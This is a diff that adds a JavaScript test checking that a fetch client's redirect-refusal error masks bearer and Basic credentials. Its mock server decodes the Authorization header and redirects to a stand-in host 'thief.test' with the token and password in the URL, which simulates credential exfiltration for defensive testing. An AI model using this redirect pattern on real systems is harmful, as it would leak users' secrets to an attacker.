@@ -258,6 +258,20 @@ describe('an address elsewhere', () => {
     expect(server.requests).toHaveLength(1);
   });
 
+  it('is named without what the server repeats of the token', async () => {
+    const server = await serve((request, response) => {
+      const sent = String(request.headers.authorization).replace(/^\w+ /, '');
+      const password = Buffer.from(sent, 'base64').toString().replace(/^.*:/, '');
+      redirect(response, `https://thief.test/${sent}/${encodeURIComponent(password)}`);
+    });
+    const basic = { authorization: `Basic ${Buffer.from(`una@acme.test:${TOKEN}/+`).toString('base64')}` };
+    for (const headers of [withToken.headers, basic]) {
+      const error = await refusal(fetchFrom(server.origin)('/', { headers }));
+      expect(error.message).toMatch(/redirects to https:\/\/thief\.test\/\*\*\*/);
+      expect(error.message).not.toContain(Buffer.from(TOKEN).toString('base64').slice(4, 20));
+    }
+  });
+
   it('is an error when it goes round in circles', async () => {
     const server = await serve((_request, response) => redirect(response, '/again'));
     const error = await refusal(fetchFrom(server.origin)('/', withToken));
